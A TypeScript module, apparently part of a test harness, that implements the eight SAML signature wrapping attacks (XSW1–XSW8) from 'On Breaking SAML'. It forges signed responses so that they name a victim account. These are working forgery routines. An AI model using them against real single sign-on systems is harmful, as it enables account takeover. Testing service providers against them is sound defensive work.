/**
 * The eight forms of signature wrapping that "On Breaking SAML" (USENIX Security 2012) describes, for responses in any
 * style.
 */

import { DOMParser, XMLSerializer } from "@xmldom/xmldom";
import { email, type Style, signedResponse } from "./identity-provider.ts";

export const victim = "admin@acme.test";
export const victimNameId = "user-1";

interface Parts {
  readonly document: Document;
  readonly response: Element;
  readonly assertion: Element;
}

/** How the signed original and the forged copy are arranged. */
interface Wrapping {
  readonly name: string;
  readonly description: string;
  arrange(parts: Parts): void;
}

const signatureNamespace = "http://www.w3.org/2000/09/xmldsig#";
const assertionNamespace = "urn:oasis:names:tc:SAML:2.0:assertion";
const protocolNamespace = "urn:oasis:names:tc:SAML:2.0:protocol";

const signatureOf = (element: Element): Element | undefined =>
  Array.from(element.childNodes).find(
    (node): node is Element => node.nodeType === 1 && (node as Element).namespaceURI === signatureNamespace,
  );

function withoutSignature(element: Element): Element {
  const copy = element.cloneNode(true) as Element;
  const signature = signatureOf(copy);
  if (signature) copy.removeChild(signature);
  return copy;
}

/** Returns a copy that names another user. Its IDs are new, so that the signature still refers to the original. */
function forge(element: Element, { keepId = false } = {}): Element {
  const copy = element.cloneNode(true) as Element;
  const visit = (node: Element): void => {
    if (!keepId && node.hasAttribute("ID")) node.setAttribute("ID", `${node.getAttribute("ID")}f`);
    for (const child of Array.from(node.childNodes)) {
      if (child.nodeType === 1) visit(child as Element);
      if (child.nodeType === 3)
        child.nodeValue = (child.nodeValue ?? "").replace(email, victim).replace(/^user-17$/, victimNameId);
    }
  };
  visit(copy);
  return copy;
}

/** Replaces the document's root with a forged response. */
function replaceRoot({ document, response }: Parts, forged: Element): void {
  document.replaceChild(forged, response);
}

export const wrappings: readonly Wrapping[] = [
  {
    name: "XSW1",
    description: "The signed response is inside the forged response's signature",
    arrange(parts) {
      const forged = forge(parts.response);
      const signature = signatureOf(forged) ?? signatureOf(firstAssertion(forged));
      signature?.appendChild(withoutSignature(parts.response));
      replaceRoot(parts, forged);
    },
  },
  {
    name: "XSW2",
    description: "The signed response is a sibling of the forged response's signature",
    arrange(parts) {
      const forged = forge(parts.response);
      const signature = signatureOf(forged) ?? signatureOf(firstAssertion(forged));
      signature?.parentNode?.insertBefore(withoutSignature(parts.response), signature);
      replaceRoot(parts, forged);
    },
  },
  {
    name: "XSW3",
    description: "A forged assertion precedes the signed one",
    arrange: ({ response, assertion }) => {
      response.insertBefore(withoutSignature(forge(assertion)), assertion);
    },
  },
  {
    name: "XSW4",
    description: "The signed assertion is inside the forged one",
    arrange: ({ response, assertion }) => {
      const forged = withoutSignature(forge(assertion));
      response.replaceChild(forged, assertion);
      forged.appendChild(assertion);
    },
  },
  {
    name: "XSW5",
    description: "The forged assertion has the signature, and the original follows",
    arrange: ({ response, assertion }) => {
      const forged = forge(assertion);
      response.replaceChild(forged, assertion);
      response.appendChild(withoutSignature(assertion));
    },
  },
  {
    name: "XSW6",
    description: "The forged assertion's signature contains the original",
    arrange: ({ response, assertion }) => {
      const forged = forge(assertion);
      response.replaceChild(forged, assertion);
      (signatureOf(forged) ?? signatureOf(response))?.appendChild(withoutSignature(assertion));
    },
  },
  {
    name: "XSW7",
    description: "The forged assertion is inside an Extensions element",
    arrange: ({ document, response, assertion }) => {
      const extensions = document.createElementNS(protocolNamespace, "samlp:Extensions");
      extensions.appendChild(withoutSignature(forge(assertion, { keepId: true })));
      response.insertBefore(extensions, assertion);
    },
  },
  {
    name: "XSW8",
    description: "The original is in an Object of the forged assertion's signature",
    arrange: ({ document, response, assertion }) => {
      const forged = forge(assertion, { keepId: true });
      const object = document.createElementNS(signatureNamespace, "ds:Object");
      object.appendChild(withoutSignature(assertion));
      response.replaceChild(forged, assertion);
      (signatureOf(forged) ?? signatureOf(response))?.appendChild(object);
    },
  },
];

function firstAssertion(element: Element): Element {
  const [assertion] = Array.from(element.getElementsByTagNameNS(assertionNamespace, "Assertion"));
  if (!assertion) throw new Error("The response has no assertion.");
  return assertion;
}

/** Applies a wrapping to a valid response of this style. */
export function wrap({ arrange }: Wrapping, style: Style): string {
  const document = new DOMParser().parseFromString(signedResponse(style), "text/xml");
  const response = document.documentElement;
  arrange({ document, response, assertion: firstAssertion(response) });
  return new XMLSerializer().serializeToString(document);
}
